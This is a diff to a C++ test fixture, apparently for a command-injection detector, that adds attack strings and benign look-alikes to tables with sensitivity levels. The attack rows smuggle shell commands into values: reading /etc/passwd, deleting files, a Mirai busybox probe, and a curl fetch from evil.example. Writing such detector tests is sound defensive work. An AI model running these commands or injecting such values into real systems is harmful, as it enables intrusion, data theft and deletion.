@@ -14,6 +14,17 @@ struct Row {
 };
 
 constexpr Row kAttacks[] = {
+    // cmd.exe's switches in the word of its command; numbers in place of words; programs by their paths
+    {"127.0.0.1&dir/s c:\\", "low"},
+    {"1|dir/b/s", "balanced"},
+    {"1&del/q c:\\temp\\x", "low"},
+    {"a@b.c&&echo $((1337*3))", "balanced"},
+    {"1;expr 268409241 - 2", "balanced"},
+    {"x&timeout /t 5", "balanced"},
+    {"1|ps aux|", "balanced"},
+    {"x;ls env:", "low"},
+    {"x;powershell Get-Process", "low"},
+    {"1;/bin/busybox MIRAI", "balanced"},
     {"127.0.0.1;cat /etc/passwd", "low"},
     {"127.0.0.1 && cat /etc/hosts", "low"},
     {"x | curl http://evil.example/a.sh", "low"},
@@ -206,6 +217,11 @@ constexpr Row kAttacks[] = {
 };
 
 constexpr Row kBenign[] = {
+    {"Uncaught Error: x at Object.eval (eval at <anonymous> (main.js:1))", "-"},
+    {"Server **down**! `curl -I https://a.example` -> 502", "-"},
+    {"Read usr/a; see dir/s for more", "-"},
+    {"/api/ping", "-"},
+    {"yes; 2 or 3", "-"},
     {"fish & net user groups", "-"},
     {"& net income of 2023", "-"},
     {"a net user of services", "-"},
